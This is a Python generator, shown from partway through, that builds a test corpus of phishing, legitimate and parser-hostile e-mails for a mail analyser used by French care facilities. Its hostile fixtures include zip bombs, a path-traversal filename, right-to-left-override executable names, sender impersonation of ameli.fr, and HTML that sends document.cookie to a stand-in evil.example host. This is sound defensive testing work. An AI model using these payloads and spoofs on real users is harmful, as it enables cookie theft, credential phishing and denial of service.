    """42.zip-style: ``width`` zips in a zip, ``levels`` deep, 1 MiB of zeros at the bottom."""
    layer = make_zip([(f"f{i}.bin", bytes(1 << 20)) for i in range(width)])
    for level in range(levels - 1):
        layer = make_zip([(f"l{level}_{i}.zip", layer) for i in range(width)])
    return layer


def with_attachment(name: str, subject: str, filename: str, ctype: str, data: bytes) -> bytes:
    head = hostile_head(name, subject)
    body = (
        'Content-Type: multipart/mixed; boundary="att"\n\n--att\n'
        "Content-Type: text/plain; charset=utf-8\n\nVoir pièce jointe.\n--att\n"
        f'Content-Type: {ctype}; name="{filename}"\n'
        f'Content-Disposition: attachment; filename="{filename}"\n'
        "Content-Transfer-Encoding: base64\n\n" + wrap_b64(data) + "--att--\n"
    )
    return (head + body).encode()


def hostile() -> list[tuple[str, str, bytes]]:
    """(name, description, bytes) of the committed hostile files."""
    files: list[tuple[str, str, bytes]] = []

    def add(name: str, desc: str, data: bytes) -> None:
        files.append((name, desc, data))

    add("deep_nesting_50", "50 nested multipart/mixed levels (limit: 8).", deep_nesting(50))
    add(
        "deep_nesting_400",
        "400 nested multipart levels: deep enough to stress a recursive parser.",
        deep_nesting(400),
    )
    add("many_parts_5000", "5000 tiny parts in one multipart (limit: 200).", many_parts(5000))
    add(
        "many_received_300",
        "A mail loop: about 180 Received headers and a long folded header, 40 KB of headers.",
        huge_headers(40_000),
    )
    add(
        "zip_bomb_declared",
        "ZIP whose headers declare 4 GiB uncompressed (16 MiB of zeros "
        "deflated); never to be extracted.",
        with_attachment(
            "zip_bomb_declared", "Archive", "archive.zip", "application/zip", zip_declared_bomb()
        ),
    )
    add(
        "zip_bomb_nested",
        "42.zip-style nested archive: 8^4 entries of 1 MiB (4 GiB) in a few KB.",
        with_attachment(
            "zip_bomb_nested", "Documents", "documents.zip", "application/zip", zip_nested_bomb()
        ),
    )
    truncated_zip = make_zip([("facture.exe", pe_stub("t")), ("notice.txt", b"x" * 300)])
    add(
        "zip_truncated",
        "ZIP cut in the middle: no central directory.",
        with_attachment(
            "zip_truncated",
            "Facture",
            "facture.zip",
            "application/zip",
            truncated_zip[: len(truncated_zip) // 2],
        ),
    )
    bad_eocd = bytearray(make_zip([("a.txt", b"abc")]))
    eocd = bad_eocd.rfind(b"PK\x05\x06")
    bad_eocd[eocd + 8 : eocd + 16] = b"\xff\xff\xff\xff" + b"\xff\xff\xff\x7f"
    bad_eocd[eocd + 16 : eocd + 20] = b"\x00\x00\x00\x00"
    add(
        "zip_bad_central_directory",
        "ZIP whose end record claims 65535 entries and a 2 GB central directory.",
        with_attachment(
            "zip_bad_central_directory",
            "Archive",
            "archive.zip",
            "application/zip",
            bytes(bad_eocd),
        ),
    )
    add(
        "malformed_missing_boundary",
        "multipart/mixed without a boundary parameter.",
        (
            hostile_head("malformed_missing_boundary", "Sans frontière")
            + "Content-Type: multipart/mixed\n\n--x\nContent-Type: text/plain\n\nTexte.\n--x--\n"
        ).encode(),
    )
    add(
        "malformed_unclosed_boundary",
        "Boundary never closed, garbage part headers, a part without a blank line.",
        (
            hostile_head("malformed_unclosed_boundary", "Non fermé")
            + 'Content-Type: multipart/mixed; boundary="u"\n\npréambule\n--u\n'
            "Content-Type: text/html; charset=utf-8\nContent-Type: image/png\n"
            "pas un en-tête\n<p>Bonjour</p>\n--u\nContent-Type\n\n--u\n"
            'Content-Type: multipart/alternative; boundary="u"\n\n--u\n'
        ).encode(),
    )
    add(
        "malformed_broken_base64",
        "Broken base64 in a text part and in an attachment "
        "(invalid characters, bad padding, truncated).",
        (
            hostile_head("malformed_broken_base64", "Base64 cassé")
            + 'Content-Type: multipart/mixed; boundary="b"\n\n--b\n'
            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
            "Qm9uam91ciw*** ceci n'est pas du base64 !!!\nQQ=\n=QQ\n--b\n"
            'Content-Type: application/pdf; name="f.pdf"\nContent-Disposition: attachment; '
            'filename="f.pdf"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK%%%%\nJVBER\n'
            "--b\nContent-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n"
            "=ZZ=0=\n=E9t=C3=\n--b\nContent-Type: text/plain\nContent-Transfer-Encoding: "
            "x-uuencode\n\nbegin 644 a\n#86)C\n`\nend\n--b--\n"
        ).encode(),
    )
    add(
        "malformed_headers",
        "Header line without colon, duplicate and empty From, group "
        "syntax, unbalanced quotes and angles, leading continuation line.",
        (
            " continuation sans en-tête\n"
            'From:\nFrom: "Ameli <noreply@ameli.fr>\n'
            "From: undisclosed-recipients:;\n"
            'Reply-To: <<a@b@c.example>>, "x" <>\n'
            "Return-Path: <@route.example:pirate@evil.example>\n"
            "Sender: =?utf-8?q?=FF?=\n"
            "To: ;;;\nSubject: =?utf-8?b?***?=\n"
            "Date: hier vers midi\n"
            "Authentication-Results: ;;;;spf=\n"
            "ceci n'est pas un en-tête\n"
            "Content-Type: text/plain; charset=\n\nCorps.\n"
        ).encode(),
    )
    add(
        "encoded_word_display_name",
        "Encoded-word display name that decodes to "
        "« Assurance Maladie <service@ameli.fr> » on another address.",
        (
            hostile_head("encoded_word_display_name", "Votre remboursement").replace(
                "From: Service <service@encoded-word-display-name.example>",
                "From: =?utf-8?b?"
                + base64.b64encode(b"Assurance Maladie <service@ameli.fr>").decode()
                + "?= <pirate@evil.example>",
            )
            + "Content-Type: text/plain; charset=utf-8\n\nCliquez : http://evil.example/a\n"
        ).encode(),
    )
    add(
        "encoded_word_mixed",
        "Subject and From mixing iso-8859-1, koi8-r, utf-8, an unknown "
        "charset, invalid base64 inside an encoded word, an encoded word inside the address.",
        (
            "Return-Path: <x@mixed.example>\n"
            "From: =?iso-8859-1?q?S=E9curit=E9?= =?koi8-r?b?88XS18nT?= "
            "=?x-inconnu?q?abc?= <=?utf-8?q?service=40ameli.fr?=@evil.example>\n"
            f"To: {SECRETARIAT_H.address}\n"
            "Subject: =?utf-8?b?VXJnZW50IDog?= =?iso-8859-1?q?r=E9ponse_attendue?= "
            "=?utf-8?b?!!!invalid?= =?windows-1252?q?=80_=9C?= =?utf-8?q?=F0=9F=92?=\n"
            f"Date: {format_datetime(T0)}\nMIME-Version: 1.0\n"
            "Content-Type: text/plain; charset=koi8-r\n\n"
        ).encode()
        + "Срочно: подтвердите пароль\n".encode("koi8-r"),
    )
    rtl_name = "facture\u202egpj.exe"
    add(
        "encoded_filename_rtl",
        "Attachment names with a right-to-left override (shows "
        "« factureexe.jpg »), RFC 2231 and RFC 2047 encoded, and a path traversal.",
        (
            hostile_head("encoded_filename_rtl", "Photos")
            + 'Content-Type: multipart/mixed; boundary="r"\n\n--r\n'
            "Content-Type: text/plain\n\nPhotos.\n--r\n"
            "Content-Type: application/octet-stream\n"
            "Content-Disposition: attachment; filename*=utf-8''"
            + "".join(f"%{b:02X}" for b in rtl_name.encode())
            + "\nContent-Transfer-Encoding: base64\n\n"
            + wrap_b64(pe_stub("rtl"))
            + '--r\nContent-Type: application/octet-stream; name="'
            + Header("photo\u202egnp.scr", "utf-8").encode()
            + '"\n'
            'Content-Disposition: attachment; filename="../../../Windows/System32/photo.jpg"\n'
            "Content-Transfer-Encoding: base64\n\n" + wrap_b64(pe_stub("trav")) + "--r--\n"
        ).encode(),
    )
    add(
        "html_script",
        "HTML with script, javascript: and data: links, event handlers, meta "
        "refresh, iframe, form, base href, remote images and entity-obfuscated URLs.",
        (
            hostile_head("html_script", "Document partagé")
            + "Content-Type: text/html; charset=utf-8\n\n"
            '<html><head><base href="http://base.evil.example/">'
            '<meta http-equiv="refresh" content="0;url=http://refresh.evil.example/">'
            "<script>window.location='http://script.evil.example/'+document.cookie;</script>"
            "<style>@import url(http://css.evil.example/x.css); body{background:"
            "url(http://bg.evil.example/p.gif)}</style></head><body onload=\"fetch('http://"
            'onload.evil.example\')"><img src="http://pixel.evil.example/p.gif" '
            'onerror="alert(1)"><iframe src="http://iframe.evil.example/"></iframe>'
            '<a href="javascript:alert(document.domain)">Ouvrir le document</a> '
            '<a href=" JaVaScRiPt:void(0)">Voir</a> '
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Aperçu</a> '
            '<a href="&#x68;&#x74;&#x74;&#x70;&#x73;://entity.evil.example/login">'
            "https://www.ameli.fr</a> <a href='hxxp://[::1]:80/'>ip</a> "
            '<a href="http://0x7f000001/">hex ip</a> <a href="http://3232235777/">'
            'decimal ip</a> <a href="http://user:pass@192.168.1.1@evil.example/">at</a>'
            '<form action="http://form.evil.example/post"><input type="password"></form>'
            "<svg><script>alert(2)</script></svg><!-- <a href='http://comment.example'> -->"
            "<![CDATA[ <a href=http://cdata.example> ]]><div><p><b><i><u>"
            * 1
            + "<span>" * 2000
            + "mot&#8203;de&#8203;passe"
            + "</span>" * 10
            + "</body></html>\n"
        ).encode(),
    )
    add(
        "charset_unknown",
        "Parts declaring an unknown charset, utf-8 holding latin-1 bytes, "
        "utf-16 holding utf-8, and a quoted empty charset.",
        (
            hostile_head("charset_unknown", "Charsets").encode()
            + b'Content-Type: multipart/mixed; boundary="c"\n\n--c\n'
            b"Content-Type: text/plain; charset=x-vigie-inconnu\n\nR\xe9sum\xe9 \xff\xfe\n--c\n"
            b"Content-Type: text/plain; charset=utf-8\n\nMot de passe expir\xe9 \xe0 r\xe9activer\n"
            b"--c\nContent-Type: text/html; charset=utf-16\n\n<p>caf\xc3\xa9</p>\n--c\n"
            b'Content-Type: text/plain; charset=""\n\nvide\n--c\n'
            b"Content-Type: text/plain; charset=iso-2022-jp\n\n\x1b$B\xff\xff\x1b(B\n--c--\n"
        ),
    )
    add(
        "nul_bytes",
        "NUL bytes in headers, in the boundary, in a file name and in the body.",
        (
            hostile_head("nul_bytes", "Nul\x00octet", "X-Nul: a\x00b\n").encode()
            + b'Content-Type: multipart/mixed; boundary="n\x00b"\n\n--n\x00b\n'
            b"Content-Type: text/plain\n\nTexte\x00cach\xc3\xa9 http://nul\x00.example/\n"
            b'--n\x00b\nContent-Disposition: attachment; filename="a\x00.exe"\n\n\x00\x00MZ\n'
            b"--n\x00b--\n"
        ),
    )
    add(
        "raw_utf8_and_latin1_headers",
        "Raw 8-bit headers: UTF-8 homoglyph address "
        "(SMTPUTF8) and latin-1 bytes that are not UTF-8.",
        'From: "Sécurité Ameli" <sécurité@аmeli.fr>\n'.encode()
        + b"Subject: Remboursement \xe0 valider \xe9\n"
        + f"To: {SECRETARIAT_H.address}\nMIME-Version: 1.0\n".encode()
        + b"Content-Type: text/plain; charset=utf-8\n\nhttps://\xd0\xb0meli.fr/x\n",
    )
    add("nested_rfc822_30", "30 message/rfc822 parts nested in each other.", nested_rfc822(30))
    add(
        "declared_type_mismatch",
        "An executable declared as image/jpeg named photo.jpg, and "
        "an OLE document with macros declared as text/plain.",
        (
            hostile_head("declared_type_mismatch", "Photos")
            + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\nContent-Type: text/plain\n\n'
            "Photos.\n--m\n"
            + attachment_part(Att("photo.jpg", "image/jpeg", pe_stub("jpg")))
            + "--m\n"
            + attachment_part(Att("notes.txt", "text/plain", ole_macro_stub()))
            + "--m--\n"
        ).encode(),
    )
    add(
        "bare_cr_line_endings",
        "Only carriage returns as line ends (old Mac), no LF at all.",
        (
            hostile_head("bare_cr_line_endings", "CR seuls")
            + "Content-Type: text/plain\n\nLigne 1\nLigne 2 http://cr.example/\n"
        )
        .replace("\n", "\r")
        .encode(),
    )
    add(
        "headers_only",
        "Headers only: no blank line, no body.",
        hostile_head("headers_only", "Sans corps").rstrip("\n").encode(),
    )
    add("empty", "An empty file.", b"")
    add(
        "not_an_email",
        "4 KiB of pseudo-random bytes.",
        bytes(rng("not_an_email").getrandbits(8) for _ in range(4096)),
    )
    return files


def nested_rfc822(levels: int) -> bytes:
    inner = hostile_head("nested_rfc822", "Niveau 0") + "Content-Type: text/plain\n\nFond.\n"
    for level in range(1, levels):
        inner = (
            hostile_head("nested_rfc822", f"Niveau {level}")
            + "Content-Type: message/rfc822\n\n"
            + inner
        )
    return inner.encode()


# --- output -------------------------------------------------------------------------------
def auth_summary(mail: Mail) -> str:
    if mail.auth is None:
        return "no auth results"
    return "spf={} dkim={} dmarc={}".format(*mail.auth)


def corpus() -> dict[str, bytes]:
    """Every generated file, by path relative to ``tests/data/emails``."""
    files: dict[str, bytes] = {}
    rows: dict[str, list[str]] = {"phishing": [], "legit": []}
    for offset, mails in ((0, phishing()), (500, legit())):
        names = [m.name for m in mails]
        assert len(names) == len(set(names)), "duplicate names"
        for index, mail in enumerate(mails):
            data = build(mail, offset + index)
            files[f"{mail.label}/{mail.name}.eml"] = data
            extras = [auth_summary(mail)]
            if mail.reply_to:
                extras.append("Reply-To elsewhere")
            attached = [f"`{a.filename}`" for a in mail.atts if not a.inline_cid]
            if attached:
                extras.append("attachments: " + ", ".join(attached))
            rows[mail.label].append(
                f"| `{mail.name}.eml` | {mail.kind} | {mail.desc} | {'; '.join(extras)} |"
            )
    hostile_rows = []
    for name, desc, data in hostile():
        files[f"hostile/{name}.eml"] = data
        hostile_rows.append(f"| `{name}.eml` | {len(data)} | {desc} |")
    files["README.md"] = readme(rows, hostile_rows).encode()
    return files


def readme(rows: dict[str, list[str]], hostile_rows: list[str]) -> str:
    table = "| File | Kind | What it is | Headers, attachments |\n|---|---|---|---|\n"
    return f"""# E-mail corpus of the analyser

Generated by `scripts/make_email_corpus.py` — do not edit by hand: change the generator, run
`.venv/bin/python scripts/make_email_corpus.py`, and commit the result
(`--check` verifies that the committed files match; `tests/unit/test_mail_corpus.py` runs it).
`scripts/eval_mail.py` (`make eval`) runs the analyser on `phishing/` and `legit/` and prints the
figures; the floors are ≥ 95 % of `phishing/` rated dangereux or douteux and ≤ 5 % of `legit/`
rated dangereux.

Everything is fictional but modelled on what two facilities really receive: the **EHPAD Les
Tilleuls** (`{TILLEULS}`, on Microsoft 365, whose Authentication-Results look like
Exchange Online's) and the **FAM L'Horizon** (`{HORIZON}`, a Postfix server at a host); their
IT provider **Axion Santé Informatique** (`{PROVIDER}`) and care-software vendor **LogiSoins**
(`logisoins.fr`). These four domains are what a deployment would put in
`mail_trusted_domains`; the evaluation passes them to the analyser on top of its defaults.
Public organisations (ameli.fr, ars.sante.fr, mssante.fr, banks, carriers, Microsoft) keep
their real domains. Dates, Message-IDs, MIME boundaries and IP addresses are derived from each
file's name, so a regeneration is byte-identical.

Attachments are inert stubs: executables carry only an MZ/PE header, scripts a harmless
`WScript.Echo`, macro documents a VBA-project marker, disk images and shortcuts their magic
numbers, PDFs are minimal valid one-page documents. ZIP archives are built in memory with
`zipfile`; the zip bombs are highly compressible archives that must never be extracted.

## `phishing/` ({len(rows["phishing"])} files)

Realistic rather than caricatural: several carry one or two signals only (a compromised
real mailbox with SPF/DKIM/DMARC passing, a CEO-fraud first contact without any link, a
bank-detail change with a Reply-To elsewhere); lookalike senders often pass SPF and DKIM for
their own domain. Two are phishing mails forwarded by a colleague **as an attachment**
(`message/rfc822`), which is how staff often hand a message over.

{table}{chr(10).join(rows["phishing"])}

## `legit/` ({len(rows["legit"])} files)

Chosen to make the floor on false alarms mean something: invoices with PDFs, a payment
reminder, newsletters full of tracking links (one whose link text is the ARS site but whose
target is the mailing service's redirector), urgent ARS alerts, « mise à jour » and « action
requise » vendor notices, real password-expiry notices, an employee sending her new RIB to HR,
security awareness mails quoting phishing vocabulary, free-mail senders, a mailing list that
breaks DKIM, mails without any Authentication-Results.

{table}{chr(10).join(rows["legit"])}

## `hostile/` ({len(hostile_rows)} files)

Files meant to break a parser or exhaust a process. Each must be analysed within the
analyser's limits (`vigie.phishing.mailcheck.limits.Limits`), without an exception escaping and without
any network access. The large cases are built on the fly by the test with the same generator
functions (`deep_nesting`, `many_parts`, `huge_headers`, `big_message`, `zip_many_entries`)
rather than committed: 3000 nested levels, 50 000 parts, 200 KB of headers, a 20 000-entry ZIP,
an 11 MB message (above the 10 MiB limit) and a 9 MB one (just below it).

| File | Bytes | What it is |
|---|---|---|
{chr(10).join(hostile_rows)}
"""


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--check", action="store_true", help="verify instead of writing")
    parser.add_argument("--out", type=Path, default=OUT, help="target directory")
    args = parser.parse_args(argv)
    files = corpus()
    managed = ("phishing", "legit", "hostile")
    existing = {
        str(path.relative_to(args.out))
        for sub in managed
        if (args.out / sub).is_dir()
        for path in (args.out / sub).glob("*.eml")
    }
    if args.check:
        problems = sorted(
            [
                f"missing or different: {name}"
                for name, data in files.items()
                if not (args.out / name).is_file() or (args.out / name).read_bytes() != data
            ]
            + [f"not generated: {name}" for name in existing - files.keys()]
        )
        for problem in problems:
            print(problem, file=sys.stderr)
        if problems:
            print(
                "Le corpus ne correspond pas au générateur : relancez "
                "scripts/make_email_corpus.py.",
                file=sys.stderr,
            )
            return 1
        print(f"Corpus à jour ({len(files)} fichiers).")
        return 0
    for name in existing - files.keys():
        (args.out / name).unlink()
    written = 0
    for name, data in files.items():
        path = args.out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.is_file() or path.read_bytes() != data:
            path.write_bytes(data)
            written += 1
    counts = {sub: sum(1 for n in files if n.startswith(sub + "/")) for sub in managed}
    print(
        f"{written} fichier(s) écrit(s) ; phishing={counts['phishing']} "
        f"legit={counts['legit']} hostile={counts['hostile']}."
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
